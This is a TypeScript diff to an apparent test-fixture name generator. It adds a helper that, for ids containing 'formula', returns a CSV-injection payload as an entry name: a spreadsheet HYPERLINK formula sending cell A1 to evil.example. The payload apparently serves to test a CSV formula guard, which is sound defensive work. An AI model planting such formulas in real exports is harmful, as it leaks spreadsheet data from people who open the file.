@@ -21,7 +21,16 @@ const NAME_PARTS: ReadonlyArray<string> = [
   'Customer story: ACME',
 ];
 
+/**
+ * Ids containing `formula`: the name an end user typed to attack whoever opens the export in a
+ * spreadsheet (OWASP "CSV injection"), for the CSV formula guard.
+ */
+export function isFormula(id: string): boolean {
+  return id.includes('formula');
+}
+
 export function entryNameFor(entryId: string): string {
+  if (isFormula(entryId)) return `=HYPERLINK("https://evil.example/?leak="&A1,"Watch ${entryId}")`;
   const h = hash32(`name:${entryId}`);
   const base = NAME_PARTS[h % NAME_PARTS.length] ?? 'Untitled';
   return `${base} (${entryId})`;
